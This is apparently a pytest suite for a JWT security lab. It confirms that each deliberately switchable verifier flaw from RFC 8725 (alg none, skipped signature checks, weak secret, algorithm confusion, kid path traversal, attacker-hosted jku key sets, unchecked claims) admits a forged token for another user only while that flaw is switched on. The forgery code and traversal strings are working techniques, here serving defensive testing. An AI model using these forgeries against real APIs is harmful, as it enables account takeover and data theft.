"""The API's JWT verifier flaws, one weakness switch each: every forgery refused with the switch off, accepted with
it on (and recorded as accepted_through_flaw), refused again once it is off.  Named by the RFC 8725 section each
switch violates."""
from __future__ import annotations

import base64
import hashlib
import hmac
import json

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm

from apisec_lab.client import selfcontained
from apisec_lab.core import crypto
from apisec_lab.core.store import DATA_DIR
from apisec_lab.servers.api import fingerprint
from apisec_lab.servers.jwtverify import flaw_line

from .conftest import bearer

SWITCHES = ["jwt_alg_none", "jwt_no_verify", "jwt_weak_secret", "jwt_alg_confusion", "jwt_kid_injection", "jwt_jku",
            "jwt_claims_unchecked"]


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def hs256(header: dict, claims: dict, key: bytes) -> str:
    """HS256 by hand: PyJWT refuses an empty key and a PEM public key as HMAC secrets, which is the point."""
    signing_input = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}"
    return f"{signing_input}.{b64(hmac.new(key, signing_input.encode(), hashlib.sha256).digest())}"


def claims_of(token: str) -> dict:
    return jwt.decode(token, options={"verify_signature": False})


@pytest.fixture
def bob(lab):
    """Bob's own JWT, from his own sign-in: the attacker's starting point."""
    return selfcontained.jwt_app(lab, "Bob's gallery", ["profile:read", "photos:read"], user="bob")


def as_alice(token: str, **more) -> dict:
    return {**claims_of(token), "sub": "alice", **more}


def forge(lab, switch: str, bob_token: str) -> str:
    """A token saying it is Alice's, made the way the flaw behind *switch* allows (with the switch off now)."""
    claims = as_alice(bob_token, scope="profile:read photos:read messages:read")
    if switch == "jwt_alg_none":
        return jwt.encode(claims, None, algorithm="none", headers={"typ": "at+jwt"})
    if switch == "jwt_no_verify":
        head, _, sig = bob_token.split(".")
        return f"{head}.{b64(json.dumps(claims).encode())}.{sig}"
    if switch == "jwt_weak_secret":
        return hs256({"alg": "HS256", "typ": "at+jwt"}, claims, b"your-256-bit-secret-change-me-now")
    if switch == "jwt_alg_confusion":
        with lab.session() as s:
            [key] = s.get(lab.metadata["jwks_uri"], timeout=10).json()["keys"]
        pem = RSAAlgorithm.from_jwk(key).public_bytes(serialization.Encoding.PEM,
                                                      serialization.PublicFormat.SubjectPublicKeyInfo)
        return hs256({"alg": "HS256", "typ": "at+jwt"}, claims, pem)
    if switch == "jwt_kid_injection":
        return hs256({"alg": "HS256", "typ": "at+jwt", "kid": "../" * 12 + "dev/null"}, claims, b"")
    if switch == "jwt_jku":
        mine = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        jwk = {**RSAAlgorithm.to_jwk(mine.public_key(), as_dict=True), "kid": "mine"}
        url = lab.attacker.serve("/jwks.json", json.dumps({"keys": [jwk]}), content_type="application/json")
        return jwt.encode(claims, mine, algorithm="RS256", headers={"typ": "at+jwt", "kid": "mine", "jku": url})
    if switch == "jwt_claims_unchecked":     # Alice's own token, expired: found in an old log
        app = selfcontained.jwt_app(lab, "Old app", ["profile:read", "photos:read", "messages:read"], lifetime=60)
        lab.clock.advance(minutes=5)
        return app.access_token
    raise KeyError(switch)


def get(lab, token: str, path: str = "/messages"):
    with lab.session() as s:
        return s.get(lab.api_url + path, headers=bearer(token), timeout=10)


def flaw_events(lab):
    events = lab.events()
    return events[events["event"] == "accepted_through_flaw"]


@pytest.mark.parametrize("switch", SWITCHES)
def test_rfc8725_each_flaw_lets_a_forgery_reach_alices_data_only_while_its_switch_is_on(lab, bob, switch):
    token = forge(lab, switch, bob.access_token)
    refused = get(lab, token)
    assert refused.status_code == 401 and refused.json()["error"] == "invalid_token", "hardened: refused"
    with lab.weaknesses.turned_on(**{switch: True}):
        r = get(lab, token)
        assert r.status_code == 200, r.text
        assert {m["owner"] for m in r.json()} == {"alice"}
    [record] = flaw_events(lab).to_dict("records")
    assert (record["username"], record["detail"]) == (
        "alice", f"{switch}: GET /messages as alice (token {fingerprint(token)})")
    assert get(lab, token).status_code == 401, "the same token, refused again once the switch is off"
    assert lab.errors == []


@pytest.mark.parametrize("switch", SWITCHES)
def test_a_flaw_does_not_fire_for_the_labs_own_valid_tokens(lab, bob, switch):
    with lab.weaknesses.turned_on(**{switch: True}):
        assert get(lab, bob.access_token, "/me").json()["username"] == "bob"
    assert flaw_events(lab).empty, "a token the hardened checks accept is no evidence of a flaw"


@pytest.mark.parametrize("switch", SWITCHES)
def test_every_switch_is_off_by_default_and_every_forgery_is_refused_by_the_hardened_api(lab, bob, switch):
    assert not getattr(lab.weaknesses, switch)
    tokens = [forge(lab, s, bob.access_token) for s in SWITCHES]
    assert [get(lab, t).status_code for t in tokens] == [401] * len(SWITCHES)
    assert flaw_events(lab).empty


@pytest.mark.parametrize("switch", SWITCHES)
def test_each_flaw_is_its_own_the_others_do_not_let_its_forgery_in(lab, bob, switch):
    token = forge(lab, switch, bob.access_token)
    others = {s: True for s in SWITCHES if s != switch and not (switch == "jwt_no_verify" or s == "jwt_no_verify")}
    with lab.weaknesses.turned_on(**others):
        assert get(lab, token).status_code == 401, f"{switch}'s forgery got in through {sorted(others)}"


def test_rfc8725_s3_5_the_weak_secret_is_in_the_shipped_wordlist_and_signs_while_on(lab):
    words = [w for w in (DATA_DIR / "jwt-secrets.txt").read_text().splitlines() if w and not w.startswith("#")]
    with lab.weaknesses.turned_on(jwt_weak_secret=True):
        bob = selfcontained.jwt_app(lab, "Legacy", ["profile:read"], user="bob")
        assert jwt.get_unverified_header(bob.access_token)["alg"] == "HS256"
        head, body, sig = bob.access_token.split(".")
        found = [w for w in words if hmac.compare_digest(
            b64(hmac.new(w.encode(), f"{head}.{body}".encode(), hashlib.sha256).digest()), sig)]
        assert found == ["your-256-bit-secret-change-me-now"]
        assert bob.call("/me").status_code == 200
    assert bob.call("/me").status_code == 401, "off again: HS256 is not on the allow-list"
    assert flaw_events(lab).empty, "the server's own weakly signed tokens are not forgeries"


def test_rfc8725_s3_9_claims_unchecked_takes_a_token_minted_for_another_api(lab):
    calendar = selfcontained.jwt_app(lab, "Calendar", ["profile:read"], audience="urn:example:calendar-api")
    assert calendar.call("/me").status_code == 401
    with lab.weaknesses.turned_on(jwt_claims_unchecked=True):
        assert calendar.call("/me").json()["username"] == "alice"
    assert "jwt_claims_unchecked: GET /me as alice" in flaw_events(lab)["detail"].iloc[0]


def test_claims_unchecked_still_refuses_a_revoked_token(lab):
    app = selfcontained.jwt_app(lab, "Old app", ["profile:read"], lifetime=60)
    lab.revoke_app("alice", app.client_id)
    lab.clock.advance(minutes=5)
    with lab.weaknesses.turned_on(jwt_claims_unchecked=True):
        r = app.call("/me")
    assert r.status_code == 401 and r.json()["error_description"] == "The access token was revoked."


def test_rfc8725_s3_10_kid_injection_reads_only_the_key_folder_and_dev_null(lab, bob):
    claims = as_alice(bob.access_token)
    absolute = hs256({"alg": "HS256", "typ": "at+jwt", "kid": "/dev/null"}, claims, b"")
    elsewhere = hs256({"alg": "HS256", "typ": "at+jwt", "kid": "../../../../../../etc/hostname"}, claims, b"")
    with lab.weaknesses.turned_on(jwt_kid_injection=True):
        assert get(lab, absolute, "/me").status_code == 200, "os.path.join drops the folder for an absolute kid"
        assert get(lab, elsewhere, "/me").status_code == 401, "the lab's rail: no file outside the key folder"
        folder = lab._dir.path / "keys"
        internal = hs256({"alg": "HS256", "typ": "at+jwt", "kid": "internal-reports"}, claims,
                         (folder / "internal-reports").read_bytes())
        assert get(lab, internal, "/me").status_code == 200, "the folder's own key verifies"


def test_rfc8725_s3_10_jku_is_fetched_from_loopback_lab_servers_only(lab, bob):
    mine = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = {**RSAAlgorithm.to_jwk(mine.public_key(), as_dict=True), "kid": "mine"}
    url = lab.attacker.serve("/jwks.json", json.dumps({"keys": [jwk]}), content_type="application/json")
    claims = as_alice(bob.access_token)
    elsewhere = url.replace("127.0.0.1", "localhost")       # the same server under another origin: not the lab's
    with lab.weaknesses.turned_on(jwt_jku=True):
        for jku, status in ((url, 200), (elsewhere, 401), ("http://127.0.0.1:1/jwks.json", 401)):
            token = jwt.encode(claims, mine, algorithm="RS256", headers={"typ": "at+jwt", "kid": "mine", "jku": jku})
            assert get(lab, token, "/me").status_code == status, jku
    fetched = [h for h in lab.attacker.records if h.path == "/jwks.json"]
    assert len(fetched) == 1 and "python-requests" in fetched[0].headers.get("User-Agent", ""), \
        "the API fetched the attacker's key set: the log shows it"


def test_a_flaw_line_is_the_code_that_runs(lab):
    for switch in SWITCHES:
        line = flaw_line(switch)
        assert "# the flaw" in line and line.split("#")[0].strip(), switch
    assert "verify_signature" in flaw_line("jwt_no_verify")
    assert "public_pem()" in flaw_line("jwt_alg_confusion")
    assert "os.path.join" in flaw_line("jwt_kid_injection")


def test_the_flaw_record_holds_no_token_only_its_fingerprint(lab, bob):
    token = forge(lab, "jwt_alg_none", bob.access_token)
    with lab.weaknesses.turned_on(jwt_alg_none=True):
        get(lab, token)
    detail = flaw_events(lab)["detail"].iloc[0]
    assert token not in detail and fingerprint(token) == crypto.digest(token)[:12] in detail


def test_a_forged_token_for_no_such_user_is_refused(lab, bob):
    token = jwt.encode({**claims_of(bob.access_token), "sub": "mallory"}, None, algorithm="none",
                       headers={"typ": "at+jwt"})
    with lab.weaknesses.turned_on(jwt_alg_none=True):
        r = get(lab, token, "/me")
    assert r.status_code == 401 and "sub is no user" in r.json()["error_description"]


def test_the_gateway_refuses_forgeries_even_with_a_flaw_on(lab, bob):
    token = forge(lab, "jwt_alg_none", bob.access_token)
    with lab.weaknesses.turned_on(jwt_alg_none=True), lab.session() as s:
        r = s.get(lab.gateway_url + "/messages", headers=bearer(token), timeout=10)
    assert r.status_code == 401, "introspection asks the store, which never issued it"


def test_rfc8725_s3_3_no_verify_takes_any_signature_or_none(lab, bob):
    head, body, _ = bob.access_token.split(".")
    claims = b64(json.dumps(as_alice(bob.access_token)).encode())
    with lab.weaknesses.turned_on(jwt_no_verify=True):
        for signature in ("", "AAAA", b64(b"x" * 256)):
            assert get(lab, f"{head}.{claims}.{signature}", "/me").json()["username"] == "alice"


def test_rfc8725_s3_1_alg_confusion_needs_the_exact_pem_pyjwt_refuses_to_use(lab, bob):
    with lab.session() as s:
        [key] = s.get(lab.metadata["jwks_uri"], timeout=10).json()["keys"]
    pem = RSAAlgorithm.from_jwk(key).public_bytes(serialization.Encoding.PEM,
                                                  serialization.PublicFormat.SubjectPublicKeyInfo)
    claims = as_alice(bob.access_token)
    with pytest.raises(jwt.InvalidKeyError):
        jwt.encode(claims, pem, algorithm="HS256")
    der = RSAAlgorithm.from_jwk(key).public_bytes(serialization.Encoding.DER,
                                                  serialization.PublicFormat.SubjectPublicKeyInfo)
    with lab.weaknesses.turned_on(jwt_alg_confusion=True):
        assert get(lab, hs256({"alg": "HS256", "typ": "at+jwt"}, claims, pem), "/me").status_code == 200
        assert get(lab, hs256({"alg": "HS256", "typ": "at+jwt"}, claims, der), "/me").status_code == 401
